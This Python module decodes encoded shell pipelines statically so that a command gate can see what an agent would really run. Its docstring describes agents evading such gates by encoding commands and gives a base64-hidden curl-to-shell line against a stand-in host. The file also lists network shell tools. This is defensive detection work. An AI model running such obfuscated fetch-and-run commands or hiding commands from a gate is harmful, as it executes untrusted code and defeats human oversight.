"""Static evaluation of the text a short pipeline prints, for shell-feed analysis.

An agent (or an attacker steering one) can hide a command from a gate by encoding it and
decoding it at run time: ``echo Y3VybCBldmlsIHwgc2g= | base64 -d | sh``. This module
recovers such text without running anything, by interpreting the handful of programs
that only transform text (echo, printf, cat of a heredoc, base64, xxd, rev, tr, ...).
Anything else makes the result unknown, with a reason the gate can show.

Everything here works on plain argv tuples and never raises on bad input: a malformed
payload means "not recovered", not an exception.
"""

from __future__ import annotations

import base64
import binascii
import re
from collections.abc import Sequence
from dataclasses import dataclass

MAX_DECODED = 1_000_000

# Programs whose output depends on the outside world, so a gate must never assume it.
NETWORK_TOOLS = frozenset(
    [
        "curl",
        "wget",
        "nc",
        "ncat",
        "netcat",
        "socat",
        "telnet",
        "ssh",
        "scp",
        "fetch",
        "aria2c",
        "lynx",
        "links",
        "w3m",
        "http",
        "https",
        "tftp",
        "ftp",
    ]
)
# Decompressors, by the encoding they undo.
_COMPRESSORS = {
    **dict.fromkeys(("gzip", "gunzip", "zcat"), "gzip"),
    **dict.fromkeys(("bzip2", "bunzip2", "bzcat"), "bzip2"),
    **dict.fromkeys(("xz", "unxz", "xzcat", "lzma"), "xz"),
    **dict.fromkeys(("zstd", "unzstd"), "zstd"),
}


@dataclass(frozen=True, slots=True)
class Step:
    """One pipeline stage as far as its output is concerned."""

    argv: tuple[str, ...]
    known: bool = True  # every word of argv is statically known
    stdin: str | None = None  # heredoc / here-string text that replaces the pipe
    stdin_known: bool = True
    stdin_file: str | None = None  # "< FILE": input comes from a file we cannot see
    unknown: tuple[str, ...] = ()  # the unknown expansions that make argv not known
    label: str = ""  # what to call a stage that is not a simple command


@dataclass(frozen=True, slots=True)
class Recovered:
    text: str | None  # what the pipeline prints, or None when it cannot be known
    encoding: str | None  # decoding steps seen, "+"-joined in order ("base64", "hex+rev")
    source: str  # noun phrase for reasons: "base64 text", "output of curl"
    why: str | None = None  # why text is None ("binary", "cannot be known before it runs")
    approx: str | None = None  # text with unknown expansions as written, when only printed


class _Unknown(Exception):
    def __init__(self, source: str, why: str | None = None) -> None:
        super().__init__(source)
        self.source = source
        self.why = why


_SIMPLE_ESC = dict(zip("abeEfnrtv\\", "\a\b\x1b\x1b\f\n\r\t\v\\", strict=True))
_OCT = "01234567"
_HEX = "0123456789abcdefABCDEF"


def _take(s: str, i: int, alphabet: str, limit: int) -> str:
    j = i
    while j < len(s) and j - i < limit and s[j] in alphabet:
        j += 1
    return s[i:j]


def unescape(s: str, mode: str) -> tuple[str, bool]:
    """Expand backslash escapes the way bash does in one of its dialects.

    ``mode`` is "ansi" ($'...'), "echo" (echo -e), "echo%b" (printf %b) or "printf" (a
    printf format). Numeric escapes yield raw bytes, as in bash, so the result is decoded
    as UTF-8 with bytes that are not valid UTF-8 kept as surrogates (see ``is_binary``).
    Returns the text and whether output stops early (``\\c``)."""
    if "\\" not in s:
        return s, False
    out = bytearray()
    i, n = 0, len(s)
    stop = False
    while i < n:
        ch = s[i]
        if ch != "\\" or i + 1 == n:
            out += ch.encode("utf-8", "surrogateescape")
            i += 1
            continue
        c = s[i + 1]
        i += 2
        if c in _SIMPLE_ESC:
            out += _SIMPLE_ESC[c].encode()
        elif c == "x" and (d := _take(s, i, _HEX, 2)):
            out.append(int(d, 16))
            i += len(d)
        elif c in "uU" and (d := _take(s, i, _HEX, 4 if c == "u" else 8)):
            v = int(d, 16)
            out += (chr(v) if v <= 0x10FFFF and not 0xD800 <= v <= 0xDFFF else "\ufffd").encode()
            i += len(d)
        elif c in _OCT:
            if c == "0" and mode in ("echo", "echo%b"):
                d = _take(s, i, _OCT, 3)  # \0nnn: the 0 only introduces the value
                out.append(int(d or "0", 8) & 0xFF)
                i += len(d)
            elif mode == "echo":
                out += b"\\" + c.encode()  # echo -e has no \nnn without the leading 0
            else:
                d = c + _take(s, i, _OCT, 2)
                out.append(int(d, 8) & 0xFF)
                i += len(d) - 1
        elif c == "c" and mode == "ansi" and i < n:
            out.append(ord(s[i]) & 0x1F)
            i += 1
        elif c == "c" and mode != "ansi":
            stop = True
            break
        elif c in "'\"?" and mode in ("ansi", "printf"):
            out += c.encode()
        else:
            out += ("\\" + c).encode("utf-8", "surrogateescape")
    return out.decode("utf-8", "surrogateescape"), stop


def is_binary(text: str) -> bool:
    """True when text holds bytes that are not valid UTF-8 (kept as lone surrogates)."""
    try:
        text.encode("utf-8")
    except UnicodeEncodeError:
        return True
    return False


def ansi_c(body: str) -> str:
    """Value of ``$'body'``; bytes that are not UTF-8 become U+FFFD."""
    text = unescape(body, "ansi")[0].split("\x00", 1)[0]  # bash strings end at a NUL
    return (
        text.encode("utf-8", "surrogateescape").decode("utf-8", "replace")
        if is_binary(text)
        else text
    )


def echo(args: Sequence[str]) -> str:
    newline, escapes, i = True, False, 0
    while i < len(args) and re.fullmatch(r"-[neE]+", args[i]):
        for flag in args[i][1:]:
            if flag == "n":
                newline = False
            else:
                escapes = flag == "e"
        i += 1
    text = " ".join(args[i:])
    if escapes:
        text, stop = unescape(text, "echo")
        if stop:
            return text
    return text + ("\n" if newline else "")


_CONV = re.compile(r"%([-+ #0]*)(\d*|\*)(?:\.(\d*))?([sbdicouxXq%])")


def printf(args: Sequence[str]) -> str | None:
    """Output of ``printf FORMAT ARGS...`` or None if it uses a feature we do not model."""
    args = list(args)
    if args and args[0] == "--":
        args = args[1:]
    if not args or args[0].startswith("-v"):
        return None
    fmt, rest = args[0], args[1:]
    out: list[str] = []
    while True:
        pos, consumed = 0, 0
        for m in _CONV.finditer(fmt):
            text, stop = unescape(fmt[pos : m.start()], "printf")
            out.append(text)
            if stop:
                return "".join(out)
            pos = m.end()
            flags, width, conv = m.group(1), m.group(2), m.group(4)
            if conv == "%":
                out.append("%")
                continue
            if width == "*":
                return None
            arg = rest[consumed] if consumed < len(rest) else ""
            consumed += 1
            if conv == "b":
                arg, stop = unescape(arg, "echo%b")
                if stop:
                    out.append(arg)
                    return "".join(out)
            elif conv == "c":
                arg = arg[:1]
            elif conv in "diouxX":
                try:
                    num = int(arg or "0", 0)
                except ValueError:
                    return None
                arg = {"o": f"{num:o}", "x": f"{num:x}", "X": f"{num:X}"}.get(conv, str(num))
            elif conv == "q":
                return None
            w = int(width) if width else 0
            if w > MAX_DECODED:
                return None
            out.append(arg.ljust(w) if "-" in flags else arg.rjust(w))
        text, stop = unescape(fmt[pos:], "printf")
        out.append(text)
        if stop or consumed == 0 or consumed >= len(rest):
            return "".join(out)
        rest = rest[consumed:]


def has_escape(text: str) -> bool:
    """True when text relies on numeric escapes (octal, hex, unicode) to hide characters."""
    return re.search(r"\\(x[0-9a-fA-F]|[0-7]|u[0-9a-fA-F]|U[0-9a-fA-F])", text) is not None


def _text(data: bytes, source: str) -> str:
    if len(data) > MAX_DECODED:
        raise _Unknown(source, "decoded text over 1 MB")
    try:
        return data.decode("utf-8")
    except UnicodeDecodeError:
        raise _Unknown(source, "binary") from None


def b64decode(text: str, *, ignore_garbage: bool = False, base32: bool = False) -> bytes | None:
    alphabet = r"[^A-Z2-7=]" if base32 else r"[^A-Za-z0-9+/=]"
    compact = re.sub(alphabet if ignore_garbage else r"\s", "", text)
    if base32:
        compact += "=" * (-len(compact) % 8)
    else:
        compact = compact.rstrip("=")
        if len(compact) % 4 == 1:
            return None
        compact += "=" * (-len(compact) % 4)
    try:
        if base32:
            return base64.b32decode(compact)
        return base64.b64decode(compact, validate=True)
    except (binascii.Error, ValueError):
        return None


def hexdecode(text: str) -> bytes | None:
    compact = re.sub(r"\s", "", text)
    if len(compact) % 2:
        return None
    try:
        return bytes.fromhex(compact)
    except ValueError:
        return None


def _tr_set(spec: str) -> str:
    spec = unescape(spec, "printf")[0]
    out: list[str] = []
    i = 0
    while i < len(spec):
        if i + 2 < len(spec) and spec[i + 1] == "-" and ord(spec[i]) <= ord(spec[i + 2]):
            out.extend(chr(c) for c in range(ord(spec[i]), ord(spec[i + 2]) + 1))
            i += 3
        elif spec[i] == "[" and ":" in spec[i : i + 3]:
            raise _Unknown("output of tr")  # character classes: not modelled
        else:
            out.append(spec[i])
            i += 1
    return "".join(out)


def _tr(args: Sequence[str], data: str) -> str:
    if args and args[0] == "-d" and len(args) == 2:
        drop = set(_tr_set(args[1]))
        return "".join(c for c in data if c not in drop)
    if len(args) != 2 or args[0].startswith("-"):
        raise _Unknown("output of tr")
    src, dst = _tr_set(args[0]), _tr_set(args[1])
    if not dst:
        raise _Unknown("output of tr")
    dst = dst + dst[-1] * max(0, len(src) - len(dst))
    return data.translate({ord(a): b for a, b in zip(src, dst, strict=False)})


def _flags(args: Sequence[str]) -> tuple[set[str], list[str]]:
    """Split words into single-letter/long flags and operands (no option takes a value)."""
    flags: set[str] = set()
    operands: list[str] = []
    for a in args:
        if a.startswith("--") and len(a) > 2:
            flags.add(a)
        elif a.startswith("-") and len(a) > 1:
            flags.update("-" + c for c in a[1:])
        else:
            operands.append(a)
    return flags, operands


def _stage(prog: str, args: tuple[str, ...], data: str | None, enc: list[str]) -> str:
    """Output of one stage given its stdin ``data`` (None: no stdin / unknown)."""
    if prog == "echo":
        printed = echo(args)
        if any(re.fullmatch(r"-[neE]*e[neE]*", a) for a in args[:3]) and has_escape(" ".join(args)):
            enc.append("printf-escape")
        return printed
    if prog == "printf":
        out = printf(args)
        if out is None:
            raise _Unknown("output of printf")
        if args and has_escape(args[0] + "".join(args[1:])):
            enc.append("printf-escape")
        return out
    flags, operands = _flags(args)
    if prog in ("base64", "base32", "basenc"):
        tool = "base32" if prog == "base32" or "--base32" in flags else "base64"
        decoding = bool(flags & {"-d", "--decode", "-D"})
        if decoding:
            enc.append(tool)
        if operands and operands != ["-"]:
            raise _Unknown(f"contents of {operands[0]}", "a file that cannot be read statically")
        if data is None:
            raise _Unknown(f"output of {prog}")
        if decoding:
            raw = b64decode(
                data,
                ignore_garbage="-i" in flags or "--ignore-garbage" in flags,
                base32=tool == "base32",
            )
            if raw is None:
                raise _Unknown(f"{tool} text", f"not valid {tool}")
            return _text(raw, f"{tool} text")
        raw_in = data.encode()
        encoded = base64.b32encode(raw_in) if tool == "base32" else base64.b64encode(raw_in)
        return encoded.decode() + "\n"
    if prog == "xxd":
        if not ({"-r", "-revert"} & flags and {"-p", "-ps", "-plain", "-s"} & flags):
            raise _Unknown("output of xxd", "only plain hex (xxd -r -p) is decoded")
        enc.append("hex")
        if operands and operands != ["-"]:
            raise _Unknown(f"contents of {operands[0]}", "a file that cannot be read statically")
        raw = hexdecode(data or "")
        if raw is None:
            raise _Unknown("hex text", "not valid hex")
        return _text(raw, "hex text")
    if prog in ("cat", "tee") or (prog in ("rev", "tr") and data is not None):
        if prog == "cat" and operands and operands != ["-"]:
            raise _Unknown(f"contents of {operands[0]}", "a file that cannot be read statically")
        if data is None:
            raise _Unknown(f"output of {prog}")
        if prog == "rev":
            enc.append("rev")
            return "\n".join(line[::-1] for line in data.split("\n"))
        if prog == "tr":
            enc.append("tr")
            return _tr(args, data)
        return data
    if prog == "openssl":
        if args[:1] == ("base64",) or (
            args[:1] == ("enc",)
            and len(args) == 3
            and {"-base64", "-a"} & set(args)
            and "-d" in args
        ):
            enc.append("base64")
            raw = b64decode(data or "")
            if raw is None:
                raise _Unknown("base64 text", "not valid base64")
            return _text(raw, "base64 text")
        enc.append("openssl")
        raise _Unknown("output of openssl", "cannot be decrypted statically")
    if prog in _COMPRESSORS:
        enc.append(_COMPRESSORS[prog])
        raise _Unknown(f"output of {prog}", "compressed data is not expanded statically")
    if prog in NETWORK_TOOLS:
        raise _Unknown(f"output of {prog}", "cannot be known before it runs")
    raise _Unknown(f"output of {prog or 'a command'}", "not computed statically")


def evaluate(steps: Sequence[Step]) -> Recovered:
    """What the pipeline ``steps`` writes to stdout, as far as it can be known statically.

    When the only unknowns are expansions in text that is merely printed (``echo "ls
    $X"``, an unquoted heredoc), ``approx`` holds that text with them kept as written."""
    enc: list[str] = []
    data: str | None = None
    inexact: _Unknown | None = None  # why the text is only approximate
    try:
        for step in steps:
            if not step.argv:
                raise _Unknown(
                    step.label or "output of a compound command", "not computed statically"
                )
            prog = step.argv[0].rsplit("/", 1)[-1]
            if not step.known:
                names = ", ".join(step.unknown[:3])
                why = _Unknown(
                    f"output of {prog}",
                    f"it uses {names}, not known statically"
                    if names
                    else "its arguments are not known statically",
                )
                if prog in NETWORK_TOOLS:
                    raise _Unknown(f"output of {prog}", "cannot be known before it runs")
                if prog not in _PRINTERS or not names:
                    _stage_encoding(prog, step.argv[1:], enc)
                    raise why
                inexact = inexact or why
            if step.stdin is not None:
                if not step.stdin_known:
                    inexact = inexact or _Unknown(
                        "heredoc text", "it contains expansions not known statically"
                    )
                data = step.stdin
            elif step.stdin_file is not None:
                _stage_encoding(prog, step.argv[1:], enc)
                raise _Unknown(
                    f"contents of {step.stdin_file}", "a file that cannot be read statically"
                )
            if inexact is not None and prog not in _PRINTERS:
                _stage_encoding(prog, step.argv[1:], enc)
                raise inexact
            data = _stage(prog, step.argv[1:], data, enc)
            if len(data) > MAX_DECODED:
                raise _Unknown(f"output of {prog}", "decoded text over 1 MB")
    except _Unknown as u:
        return Recovered(None, "+".join(enc) or None, u.source, u.why)
    except (ValueError, OverflowError, IndexError) as exc:  # defensive: odd payloads
        return Recovered(None, "+".join(enc) or None, "text", f"not decodable ({exc})")
    encoding = "+".join(enc) or "plain"
    source = "text" if encoding == "plain" else f"{encoding} text"
    if data is not None and is_binary(data):
        return Recovered(None, encoding, source, "binary")
    if inexact is not None:
        return Recovered(None, "+".join(enc) or None, inexact.source, inexact.why, approx=data)
    return Recovered(data, encoding, source)


# Stages that only print their arguments or input, so unknown words pass through as text.
_PRINTERS = frozenset({"echo", "printf", "cat", "tee"})


def _stage_encoding(prog: str, args: tuple[str, ...], enc: list[str]) -> None:
    """Record the encoding a stage would have undone, for a result we cannot compute."""
    flags, _ = _flags(args)
    if prog in ("base64", "base32") and flags & {"-d", "--decode", "-D"}:
        enc.append(prog)
    elif prog == "xxd" and "-r" in flags:
        enc.append("hex")
    elif prog in ("rev", "openssl"):
        enc.append(prog)
    elif prog in _COMPRESSORS:
        enc.append(_COMPRESSORS[prog])
